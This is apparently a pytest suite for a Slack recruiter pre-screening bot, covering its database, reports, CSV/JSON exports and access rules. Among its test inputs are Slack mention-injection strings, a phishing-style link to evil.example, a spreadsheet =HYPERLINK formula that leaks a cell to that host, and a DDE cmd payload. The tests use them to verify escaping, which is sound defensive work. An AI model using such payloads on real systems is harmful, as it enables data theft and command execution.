"""The pre-screen core without Rasa: content and allowlist loading, recruiter commands, the screens database, and
the recruiter's report with the real embedding model (bands, readiness, exports)."""

import csv
import io
import json
import threading
from pathlib import Path

import pytest
import yaml

from coach.content_files import ContentError
from screening.allowlist import load_recruiters
from screening.content import Band, load_screening_content
from screening.exports import main as report_cli
from screening.exports import render_text, report_sections, to_csv, to_json
from screening.recruiter_commands import read_list_page, read_report_request, read_screen_request
from screening.report import build_report, suggest_band
from screening.slack_client import SECTION_MAX_CHARS, escape, sections
from screening.store import CandidateBusy, ScreenStore
from tests.sample_answers import STRONG_ANSWER


@pytest.fixture(scope="module")
def content(project_root):
    return load_screening_content(project_root / "content" / "screening.yml")


@pytest.fixture
def store(screens_database):
    return ScreenStore(screens_database)


# --- content and allowlist -------------------------------------------------------------------------------------------

def test_the_shipped_content_loads_and_never_suggests_a_reject(content):
    assert [band.id for band in content.bands] == ["strong", "possible", "not_yet"]
    assert content.question_sets[content.default_question_set].count == 5


def broken_copy(project_root, tmp_path, change):
    document = yaml.safe_load((project_root / "content" / "screening.yml").read_text())
    change(document)
    path = tmp_path / "screening.yml"
    path.write_text(yaml.safe_dump(document))
    return path


@pytest.mark.parametrize("change, named", [
    (lambda d: d["texts"].update(report_score="Score: {points}"), "field 'report_score'"),
    (lambda d: d["texts"].pop("invitation"), "field 'invitation'"),
    (lambda d: d["bands"].insert(0, {"id": "reject", "label": "No", "meaning": "no", "min_average": 0.9}),
     "item 'reject'"),
    (lambda d: d["bands"][-1].update(requires_level_ready=True), "item 'not_yet'"),
    (lambda d: d.update(default_question_set="huge"), "field 'default_question_set'"),
])
def test_a_broken_content_file_is_rejected_naming_file_and_field(project_root, tmp_path, change, named):
    path = broken_copy(project_root, tmp_path, change)
    with pytest.raises(ContentError) as raised:
        load_screening_content(path)
    assert str(path) in str(raised.value) and named in str(raised.value)


def test_recruiters_come_from_the_file_and_the_environment_list(tmp_path):
    path = tmp_path / "recruiters.yml"
    path.write_text("version: 1\nrecruiters:\n  - slack_id: U0AAA111\n    name: Dana\n")
    assert load_recruiters(path, ["U0BBB222"]) == {"U0AAA111", "U0BBB222"}
    assert load_recruiters(tmp_path / "missing.yml") == frozenset()
    path.write_text("version: 1\nrecruiters:\n  - slack_id: dana\n")
    with pytest.raises(ContentError, match="slack_id"):
        load_recruiters(path)
    with pytest.raises(ValueError, match="CX_COACH_RECRUITERS"):
        load_recruiters(tmp_path / "missing.yml", ["not-an-id"])


# --- recruiter commands ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("screen <@U0CAND01> mid", ("U0CAND01", "mid", "standard")),
    ("screen <@U0CAND01|alex> senior short", ("U0CAND01", "senior", "short")),
    ("please screen <@U0CAND01> full junior", ("U0CAND01", "junior", "full")),
    ("screen <@U0CAND01> they have 6 years in support", ("U0CAND01", "senior", "standard")),
    ("screen @alex mid", None),
    ("screen <@U0CAND01>", None),
    ("", None),
])
def test_reading_a_screen_request(coach, content, text, expected):
    request = read_screen_request(text, coach.bank, content)
    got = (request.candidate_id, request.level, request.question_set.id) if request else None
    assert got == expected


@pytest.mark.parametrize("text, expected", [
    ("screen report S1A2B3C", ("S1A2B3C", None)),
    ("export s1a2b3c csv", ("S1A2B3C", "csv")),
    ("export S1A2B3C as JSON please", ("S1A2B3C", "json")),
    ("screens", (None, None)),
])
def test_reading_a_report_request(text, expected):
    assert read_report_request(text) == expected


@pytest.mark.parametrize("text, page", [("screens", 1), ("screens page 3", 3), ("list my screens, page 2", 2),
                                        ("screens page 0", 1)])
def test_reading_the_page_of_the_list(text, page):
    assert read_list_page(text) == page


# --- the database ----------------------------------------------------------------------------------------------------

def test_one_open_screen_per_candidate_and_moves_happen_once(store):
    first = store.create("U0REC", "U0CAND1", "mid", "short", lambda screen_id: ["q1", "q2"])
    assert first["status"] == "invited" and first["plan"] == ["q1", "q2"]
    with pytest.raises(CandidateBusy) as busy:
        store.create("U0REC2", "U0CAND1", "junior", "short", lambda screen_id: ["q1"])
    assert busy.value.screen_id == first["screen_id"]
    other = store.create("U0REC", "U0CAND2", "senior", "full", lambda screen_id: ["q3"])
    assert other["screen_id"] != first["screen_id"]

    assert store.start(first["screen_id"]) is True
    assert store.start(first["screen_id"]) is False  # a second click changes nothing
    assert store.decline(first["screen_id"]) is False  # too late to decline a screen in progress
    assert store.open_for_candidate("U0CAND1")["status"] == "in_progress"
    assert store.open_for_candidate("U0CAND2", "invited")["screen_id"] == other["screen_id"]
    assert store.finish(first["screen_id"], "completed", {"band": "x"}, 2.0) is True
    assert store.finish(first["screen_id"], "completed", {"band": "y"}, 3.0) is False
    assert store.get(first["screen_id"])["report"] == {"band": "x"}
    # Finished, the candidate can be screened again.
    again = store.create("U0REC", "U0CAND1", "mid", "short", lambda screen_id: ["q1"])
    assert again["status"] == "invited"


def test_two_recruiters_inviting_one_candidate_at_the_same_moment_make_one_screen(store):
    outcomes = []

    def invite(recruiter):
        try:
            outcomes.append(store.create(recruiter, "U0SAME", "mid", "short", lambda s: ["q"])["screen_id"])
        except CandidateBusy as busy:
            outcomes.append(f"busy:{busy.screen_id}")

    threads = [threading.Thread(target=invite, args=(f"U0REC{n}",)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    created = [o for o in outcomes if not o.startswith("busy:")]
    assert len(created) == 1
    assert all(o == f"busy:{created[0]}" for o in outcomes if o.startswith("busy:"))


# --- the report ------------------------------------------------------------------------------------------------------

def record_for(coach, question_id, number, answer):
    return coach.result_record(coach.assess(question_id, answer), number, answer)


@pytest.fixture(scope="module")
def finished_report(coach, content):
    plan = ["measure_cx_success", "improve_process_policy", "journey_mapping"]
    results = [record_for(coach, plan[0], 1, STRONG_ANSWER),
               record_for(coach, plan[1], 2, "I would probably just follow the policy, because rules are rules and "
                                             "customers have to accept them."),
               {"question_id": plan[2], "number": 3, "status": "skipped"}]
    screen = {"screen_id": "S0A0B0C", "candidate_id": "U0CAND1", "recruiter_id": "U0REC", "level": "mid",
              "question_set": "short", "plan": plan, "status": "completed", "created_at": 1.0, "finished_at": 2.0}
    return build_report(screen, results, coach, content)


def test_the_report_has_scores_evidence_gaps_flags_profile_readiness_and_a_band(finished_report, coach):
    report = finished_report
    first, second, third = report["questions"]
    assert first["score"] > second["score"]
    # Evidence is the candidate's own words: a sentence, a clause, or two neighbouring sentences (one per line).
    assert first["covered"] and all(item["evidence"]
                                    and all(line in STRONG_ANSWER for line in item["evidence"].split("\n"))
                                    for item in first["covered"])
    assert second["missing"] and all(isinstance(text, str) and len(text) > 10 for text in second["missing"])
    assert {flag["id"] for flag in second["red_flags"]} >= {"no_example"}
    assert third["status"] == "skipped" and third["score"] is None
    assert report["questions_answered"] == 2 and report["questions_asked"] == 3
    assert set(report["competency_profile"]) == {first["competency"], second["competency"]}
    assert report["level_readiness"]["indicators_total"] == len(coach.bank.levels["mid"].indicators)
    assert report["suggested_band"]["id"] in {"strong", "possible", "not_yet"}


def test_the_text_report_quotes_evidence_and_says_a_person_decides(finished_report, content):
    text = render_text(finished_report, content)
    assert "*Pre-screen S0A0B0C*" in text and "2 of 3 questions answered" in text
    assert f"“{finished_report['questions'][0]['covered'][0]['evidence'][:40]}" in text
    assert "✗ " in text and "⚑ " in text and "Skipped by the candidate." in text
    assert "Suggested band:" in text and "not a decision" in text
    assert "reject" not in text.lower()
    # In parts that keep their structure: the heading, one per question (its lines kept), the conclusions.
    parts = report_sections(finished_report, content)
    assert len(parts) == 5 and parts[1].startswith("*Q1*") and parts[3].startswith("*Q3*")
    assert "\n   Score " in parts[1] and "\n   Answer: " in parts[1]


MARKUP_ANSWER = ("We pinged <!channel> and <!here>, then <@U0BOSS99> and <https://evil.example/login|the portal>. "
                 "Tom & Jerry said ```} ] done``` and\n\nthen more.")


def test_what_a_candidate_wrote_is_inert_in_slack(finished_report, content):
    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER,
                      covered=[{"criterion": "c", "evidence": "<!channel> look"}],
                      red_flags=[{"name": "f", "explanation": "e", "quote": "<@U0BOSS99>"}])]
    report = dict(finished_report, questions=questions)
    blocks = sections(report_sections(report, content, quote=escape))
    shown = "\n".join(block["text"]["text"] for block in blocks)
    for live in ("<!channel>", "<!here>", "<@U0BOSS99>", "<https://"):
        assert live not in shown
    assert "&lt;!channel&gt;" in shown and "&lt;https://evil.example/login|the portal&gt;" in shown
    assert "Tom &amp; Jerry" in shown
    assert "<@U0CAND1>" in shown  # the bot's own mention of the candidate still works
    assert all(len(block["text"]["text"]) <= SECTION_MAX_CHARS for block in blocks)
    assert escape("a < b & c > d") == "a &lt; b &amp; c &gt; d"


def test_a_very_long_report_stays_within_slacks_limits(finished_report, content):
    question = dict(finished_report["questions"][0], covered=[{"criterion": "x" * 400, "evidence": "y" * 400}] * 12)
    blocks = sections(report_sections(dict(finished_report, questions=[question] * 60), content, quote=escape))
    assert len(blocks) <= 50 and all(len(block["text"]["text"]) <= SECTION_MAX_CHARS for block in blocks)


@pytest.mark.parametrize("answer", ["=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
                                    "\t=1+1", "\r=1+1", "  =1+1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(finished_report, answer):
    questions = [dict(finished_report["questions"][0], answer=answer, missing=["=cmd|' /C calc'!A0"])]
    rows = list(csv.DictReader(io.StringIO(to_csv([dict(finished_report, questions=questions)]), newline="")))
    assert rows[0]["answer"] == "'" + answer
    assert rows[0]["missing_criteria"].startswith("'=")
    assert rows[0]["answer"][0] not in "=+-@\t\r"


def test_the_report_never_says_ready_beside_the_band_not_yet(finished_report, content):
    ready = dict(finished_report["level_readiness"], ready=True, indicators_met=["Owns a metric"])
    not_yet = dict(finished_report, level_readiness=ready, average_score=0.1,
                   suggested_band={"id": "not_yet", "label": "Not yet", "meaning": "m"})
    assert "ready for this level" not in render_text(not_yet, content)
    assert "showed 1 of" in render_text(not_yet, content)
    strong = dict(not_yet, suggested_band={"id": "strong", "label": "Strong", "meaning": "m"})
    assert "ready for this level on paper" in render_text(strong, content)


def test_times_are_iso_8601_utc_and_finished_at_is_filled(finished_report):
    assert finished_report["created_at"] == "1970-01-01T00:00:01Z"
    assert finished_report["finished_at"] == "1970-01-01T00:00:02Z"
    row = next(csv.DictReader(io.StringIO(to_csv([finished_report]))))
    assert row["created_at"] == "1970-01-01T00:00:01Z" and row["finished_at"] == "1970-01-01T00:00:02Z"


def test_the_exports_carry_the_same_facts(finished_report):
    # JSON keeps names and answers readable (no \u escapes) for the person who opens the export.
    exported = to_json(dict(finished_report, candidate_id="Zoë Ñúñez"))
    assert "Zoë Ñúñez" in exported and json.loads(exported)["candidate_id"] == "Zoë Ñúñez"
    rows = list(csv.DictReader(io.StringIO(to_csv([finished_report]))))
    assert [row["question_status"] for row in rows] == ["answered", "answered", "skipped"]
    assert {row["screen_id"] for row in rows} == {"S0A0B0C"}
    assert rows[0]["answer"] == STRONG_ANSWER
    assert rows[1]["red_flags"]


def test_richer_records_from_a_newer_scorer_are_read_and_passed_on(coach, content):
    record = {"question_id": "measure_cx_success", "number": 1, "status": "answered", "answer": "We track NPS.",
              "score": 0.5, "covered": [{"id": "unknown_criterion", "evidence": "We track NPS."}],
              "missing": [{"id": "x"}], "red_flags": [{"id": "no_metrics", "quote": "We track NPS.", "reason": "r"}],
              "star": {"situation": True}}
    screen = {"screen_id": "S1", "candidate_id": "U", "recruiter_id": "R", "level": "mid",
              "plan": [record["question_id"]]}
    entry = build_report(screen, [record], coach, content)["questions"][0]
    assert entry["red_flags"][0]["quote"] == "We track NPS." and entry["red_flags"][0]["explanation"] == "r"
    assert entry["details"] == {"star": {"situation": True}}
    assert entry["covered"][0]["criterion"] == "unknown_criterion"


BANDS = (Band("strong", "Strong", "m", 0.7, 0.8, True, 0.34), Band("possible", "Possible", "m", 0.45, 0.5),
         Band("not_yet", "Not yet", "m", 0.0))


@pytest.mark.parametrize("average, answered, ready, flags, expected", [
    (0.8, 1.0, True, 0.0, "strong"),
    (0.8, 1.0, False, 0.0, "possible"),  # high scores without the level's experience: a person should probe
    (0.8, 1.0, True, 0.5, "possible"),
    (0.8, 0.4, True, 0.0, "not_yet"),
    (0.5, 1.0, False, 1.0, "possible"),
    (0.2, 1.0, True, 0.0, "not_yet"),
])
def test_suggested_bands(average, answered, ready, flags, expected):
    assert suggest_band(BANDS, average, answered, ready, flags).id == expected


def test_the_command_line_exports_a_stored_report(tmp_path, monkeypatch, capsys, finished_report):
    store = ScreenStore(tmp_path / "screens.db")
    screen = store.create("U0REC", "U0CAND1", "mid", "short", lambda s: ["measure_cx_success"])
    store.start(screen["screen_id"])
    store.finish(screen["screen_id"], "completed", {**finished_report, "screen_id": screen["screen_id"]}, 2.0)
    monkeypatch.setenv("SCREEN_DB", str(tmp_path / "screens.db"))
    assert report_cli([screen["screen_id"], "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["screen_id"] == screen["screen_id"]
    assert report_cli(["--all", "--format", "csv"]) == 0
    assert capsys.readouterr().out.count(screen["screen_id"]) == 3
    assert report_cli(["SFFFFFF"]) == 1


# --- the screen's steps, without Slack or Rasa (screening/service.py) --------------------------------------------

@pytest.fixture
def screening_service(screens_database, monkeypatch):
    from screening.service import Screening

    monkeypatch.setenv("SCREEN_DB" if isinstance(screens_database, Path) else "DATABASE_URL", str(screens_database))
    monkeypatch.delenv("SLACK_BOT_TOKEN", raising=False)  # every Slack call fails: "SLACK_BOT_TOKEN is not set"
    return Screening()


def test_an_invitation_slack_cannot_deliver_is_marked_failed_and_frees_the_candidate(screening_service, coach,
                                                                                      content):
    request = read_screen_request("screen <@U0CAND> mid short", coach.bank, content)
    first = screening_service.invite("U0RECRUITER", request, coach.bank)
    assert first.outcome == "failed" and first.question_count > 0
    assert screening_service.store.get(first.screen_id)["status"] == "failed"
    assert screening_service.invite("U0RECRUITER", request, coach.bank).outcome == "failed"  # not "busy"
    assert screening_service.accept("U0CAND") is None  # nothing was ever offered


def test_report_requests_for_unknown_and_unfinished_screens(screening_service, coach, content):
    assert screening_service.send_report("U0RECRUITER", "S0NOSUCH", None) == "missing"
    request = read_screen_request("screen <@U0CAND> mid short", coach.bank, content)
    screen = screening_service.store.create("U0RECRUITER", "U0CAND", "mid", request.question_set.id,
                                            lambda screen_id: ["measure_cx_success"])
    assert screening_service.send_report("U0RECRUITER", screen["screen_id"], "json") == "failed"  # no Slack token
    assert screening_service.decline("U0CAND") is True  # the recruiter's notice fails quietly, the decline stands
    assert screening_service.decline("U0CAND") is False


# --- what a recruiter reads goes through slack_sdk to their DM, and only about their own screens ------------------

@pytest.fixture
def slack_service(tmp_path, screens_database, monkeypatch):
    from harness.slack import FakeSlack
    from screening.service import Screening

    fake = FakeSlack()
    recruiters = tmp_path / "recruiters.yml"
    recruiters.write_text("version: 1\nrecruiters:\n  - slack_id: U0REC1\n  - slack_id: U0REC2\n"
                          "  - slack_id: U0LEAD\n    admin: true\n")
    database = "SCREEN_DB" if isinstance(screens_database, Path) else "DATABASE_URL"
    for name, value in {**fake.environment(), database: str(screens_database),
                        "CX_COACH_RECRUITERS_FILE": str(recruiters), "CX_COACH_RECRUITERS": ""}.items():
        monkeypatch.setenv(name, value)
    yield Screening(), fake
    fake.stop()


def finished_screen(service, recruiter, candidate, report):
    screen = service.store.create(recruiter, candidate, "mid", "short", lambda screen_id: ["measure_cx_success"])
    service.store.start(screen["screen_id"])
    service.store.finish(screen["screen_id"], "completed", {**report, "screen_id": screen["screen_id"]}, 2.0)
    return screen["screen_id"]


def test_an_export_arrives_whole_as_a_file_in_the_recruiters_dm(slack_service, finished_report):
    from harness.slack import dm_channel

    service, fake = slack_service
    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER)]
    screen_id = finished_screen(service, "U0REC1", "U0CAND1", dict(finished_report, questions=questions))
    assert service.send_report("U0REC1", screen_id, "json") == "sent"
    assert service.send_report("U0REC1", screen_id, "csv") == "sent"
    exported_json, exported_csv = fake.uploads(dm_channel("U0REC1"))
    assert exported_json["title"] == f"screen-{screen_id}.json" and screen_id in exported_json["comment"]
    assert json.loads(exported_json["content"])["questions"][0]["answer"] == MARKUP_ANSWER  # fence, blank line: whole
    assert list(csv.DictReader(io.StringIO(exported_csv["content"])))[0]["answer"] == MARKUP_ANSWER
    assert not fake.posts()  # nothing went out as a message that a code fence or a blank line could break


def test_the_report_goes_as_block_kit_sections_with_the_candidates_markup_escaped(slack_service, finished_report):
    from harness.slack import dm_channel

    service, fake = slack_service
    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER)] + finished_report["questions"][1:]
    screen_id = finished_screen(service, "U0REC1", "U0CAND1", dict(finished_report, questions=questions))
    assert service.send_report("U0REC1", screen_id, None) == "sent"
    (post,) = fake.posts(dm_channel("U0REC1"))
    assert f"*Pre-screen {screen_id}*" in post["text"]
    assert [block["type"] for block in post["blocks"]] == ["section"] * 5
    shown = json.dumps(post)
    assert "<!channel>" not in shown and "<!here>" not in shown and "<@U0BOSS99>" not in shown


def test_a_recruiter_reads_only_their_own_screens_and_an_admin_reads_all(slack_service, finished_report):
    from harness.slack import dm_channel

    service, fake = slack_service
    mine = finished_screen(service, "U0REC1", "U0CAND1", finished_report)
    theirs = finished_screen(service, "U0REC2", "U0CAND2", finished_report)
    assert service.send_report("U0REC1", theirs, None) == "missing"  # as if it did not exist
    assert service.send_report("U0REC1", theirs, "csv") == "missing"
    assert not fake.posts(dm_channel("U0REC1")) and not fake.uploads()
    assert mine in service.listing("U0REC1") and theirs not in service.listing("U0REC1")
    assert mine in service.listing("U0LEAD") and theirs in service.listing("U0LEAD")
    assert service.send_report("U0LEAD", theirs, None) == "sent"


def test_the_list_of_screens_is_paged(slack_service):
    service, _ = slack_service
    made = [service.store.create("U0REC1", f"U0CAND{n:03d}", "mid", "short", lambda s: ["q"])["screen_id"]
            for n in range(20)]
    first, second = service.listing("U0REC1"), service.listing("U0REC1", page=2)
    assert 'write "screens page 2"' in first and "screens page 3" not in second
    assert [screen_id for screen_id in made if screen_id in first] == made[5:]
    assert [screen_id for screen_id in made if screen_id in second] == made[:5]


def test_a_finished_screen_records_when_it_finished(slack_service, coach):
    service, _ = slack_service
    screen = service.store.create("U0REC1", "U0CAND1", "mid", "short", lambda s: ["measure_cx_success"])
    service.store.start(screen["screen_id"])
    service.finish(screen["screen_id"], False, [record_for(coach, "measure_cx_success", 1, STRONG_ANSWER)], coach)
    report = service.store.get(screen["screen_id"])["report"]
    assert report["finished_at"].endswith("Z") and report["created_at"].endswith("Z")
    assert report["finished_at"] >= report["created_at"]


# --- screens that never finish: cancel, expiry, an old database ---------------------------------------------------

def started_screen(service, recruiter="U0REC1", candidate="U0CAND1", plan=("measure_cx_success", "journey_mapping")):
    screen = service.store.create(recruiter, candidate, "mid", "short", lambda screen_id: list(plan))
    service.store.invited(screen["screen_id"], f"D{candidate}")
    service.store.start(screen["screen_id"])
    return screen["screen_id"]


def idle_for(service, screen_id, days):
    with service.store.database.transaction() as db:
        db.execute("UPDATE screens SET last_activity_at = last_activity_at - ? WHERE screen_id = ?",
                   (days * 24 * 3600, screen_id))


def test_a_recruiter_cancels_an_open_screen_and_can_screen_the_candidate_again(slack_service, coach):
    from harness.slack import dm_channel

    service, fake = slack_service
    screen_id = started_screen(service)
    answered = [record_for(coach, "measure_cx_success", 1, STRONG_ANSWER)]
    assert service.save_answers(screen_id, answered) is True
    assert service.cancel("U0REC2", screen_id, coach) == ("missing", None)  # not theirs
    outcome, closed = service.cancel("U0REC1", screen_id, coach)
    assert outcome == "cancelled" and closed["status"] == "cancelled"
    stored = service.store.get(screen_id)
    assert stored["status"] == "cancelled" and stored["report"]["partial"] is True
    assert stored["report"]["questions_answered"] == 1
    assert [q["status"] for q in stored["report"]["questions"]] == ["answered", "not_reached"]
    assert "Partial report" in render_text(stored["report"], service.content)
    assert "cancelled this pre-screen" in fake.posts(dm_channel("U0CAND1"))[-1]["text"]
    # Closed, it takes no more answers and cannot be cancelled or finished again.
    assert service.save_answers(screen_id, answered * 2) is False and not service.is_in_progress(screen_id)
    assert service.cancel("U0REC1", screen_id, coach)[0] == "ended"
    assert service.finish(screen_id, False, answered, coach) is False
    assert service.store.create("U0REC1", "U0CAND1", "mid", "short", lambda s: ["q"])["status"] == "invited"


def test_a_screen_left_idle_expires_and_the_recruiter_gets_the_partial_report(slack_service, coach):
    from harness.slack import dm_channel

    service, fake = slack_service
    assert service.settings.expiry_days == 7
    walked_away = started_screen(service, candidate="U0CAND1")
    service.save_answers(walked_away, [record_for(coach, "measure_cx_success", 1, STRONG_ANSWER)])
    never_started = service.store.create("U0REC2", "U0CAND2", "mid", "short", lambda s: ["q"])["screen_id"]
    recent = started_screen(service, candidate="U0CAND3")
    idle_for(service, walked_away, 7.5)
    idle_for(service, never_started, 8)
    idle_for(service, recent, 6)
    assert sorted(service.expire_idle(coach)) == sorted([walked_away, never_started])
    assert service.expire_idle(coach) == []  # once only
    assert service.store.get(recent)["status"] == "in_progress"
    report = service.store.get(walked_away)["report"]
    assert service.store.get(walked_away)["status"] == "expired" and report["partial"] is True
    (sent,) = fake.posts(dm_channel("U0REC1"))
    assert f"*Pre-screen {walked_away}*" in sent["text"] and "*Partial report:* the screen expired" in sent["text"]
    assert service.store.get(never_started)["report"] is None
    assert service.send_report("U0REC2", never_started, None) == "sent"
    assert "expired before the candidate started it" in fake.posts(dm_channel("U0REC2"))[-1]["text"]
    assert "did not start it within 7 days" in fake.posts(dm_channel("U0REC2"))[0]["text"]
    assert "has closed" in fake.posts(dm_channel("U0CAND1"))[-1]["text"]
    rows = list(csv.DictReader(io.StringIO(to_csv([report]))))
    assert {row["partial"] for row in rows} == {"True"} and {row["status"] for row in rows} == {"expired"}
    assert "expired" in service.listing("U0REC1")
    for candidate in ("U0CAND1", "U0CAND2"):
        assert service.store.create("U0REC1", candidate, "mid", "short", lambda s: ["q"])["status"] == "invited"


def test_an_answer_saved_just_before_the_sweep_keeps_the_screen_open(store):
    screen = store.create("U0REC", "U0CAND1", "mid", "short", lambda s: ["q1"])
    store.start(screen["screen_id"])
    seen = store.get(screen["screen_id"])["last_activity_at"]
    store.save_results(screen["screen_id"], [{"question_id": "q1", "status": "skipped"}])  # the candidate answers
    assert store.close(screen["screen_id"], "expired", None, 5.0, unless_answered_since=seen) is False
    assert store.get(screen["screen_id"])["status"] == "in_progress"


def test_the_expiry_comes_from_the_environment(monkeypatch):
    from screening.settings import load_screening_settings

    monkeypatch.setenv("SCREEN_EXPIRY_DAYS", "0.5")
    assert load_screening_settings().expiry_days == 0.5
    for wrong in ("0", "-1", "week"):
        monkeypatch.setenv("SCREEN_EXPIRY_DAYS", wrong)
        with pytest.raises(ValueError, match="SCREEN_EXPIRY_DAYS"):
            load_screening_settings()


def test_a_database_from_before_cancel_and_expiry_is_upgraded_in_place(tmp_path):
    import sqlite3

    path = tmp_path / "screens.db"
    with sqlite3.connect(path) as db:  # the schema as main shipped it, with an open screen in it
        db.executescript("""
            CREATE TABLE screens (screen_id TEXT PRIMARY KEY, recruiter_id TEXT NOT NULL, candidate_id TEXT NOT NULL,
                level TEXT NOT NULL, question_set TEXT NOT NULL, plan TEXT NOT NULL,
                status TEXT NOT NULL CHECK (status IN ('invited', 'in_progress', 'completed', 'stopped', 'declined',
                                                       'failed')),
                candidate_channel TEXT, created_at REAL NOT NULL, started_at REAL, finished_at REAL, report TEXT);
            CREATE UNIQUE INDEX one_open_screen_per_candidate ON screens (candidate_id)
                WHERE status IN ('invited', 'in_progress');
            INSERT INTO screens VALUES ('S0OLD01', 'U0REC', 'U0CAND1', 'mid', 'short', '["q1"]', 'in_progress',
                                        'DU0CAND1', 100.0, 200.0, NULL, NULL);
        """)
    store = ScreenStore(path)
    old = store.get("S0OLD01")
    assert old["status"] == "in_progress" and old["last_activity_at"] == 200.0 and old["results"] == []
    assert [s["screen_id"] for s in store.idle_since(1000.0)] == ["S0OLD01"]
    assert store.close("S0OLD01", "expired", {"partial": True}, 300.0) is True
    store.create("U0REC", "U0CAND2", "mid", "short", lambda s: ["q"])
    with pytest.raises(CandidateBusy):  # one open screen per candidate still holds
        store.create("U0REC", "U0CAND2", "mid", "short", lambda s: ["q"])
    ScreenStore(path)  # opening it again changes nothing
    assert store.get("S0OLD01")["status"] == "expired"
